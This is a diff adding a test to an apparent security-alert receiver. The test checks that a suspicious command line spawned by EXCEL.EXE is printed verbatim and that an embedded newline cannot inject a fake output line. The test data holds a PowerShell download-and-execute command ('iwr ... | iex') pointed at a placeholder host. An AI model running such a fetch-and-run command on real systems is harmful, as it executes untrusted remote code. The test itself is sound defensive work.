@@ -148,6 +148,18 @@ def test_show_marks_each_alert_and_fails_on_a_wrong_one(
         assert mark in out.getvalue()
 
 
+def test_command_lines_are_printed_as_they_are() -> None:
+    command = '"C:\\Program Files\\x.exe" /c "iwr https://files.example.org/a.ps1 | iex"' * 3
+    alert = _alert("a" * 64, "e1")
+    alert["sequence"]["events"][0]["process"] = {
+        "command_line": command + "\nFAKE LINE",
+        "parent": {"name": "EXCEL.EXE"},
+    }
+    text = "\n".join(receiver_module.describe(alert))
+    assert f"EXCEL.EXE -> {command}\\nFAKE LINE" in text  # whole, quotes balanced
+    assert "\nFAKE LINE" not in text
+
+
 # -- the demo -----------------------------------------------------------------------------
 
 
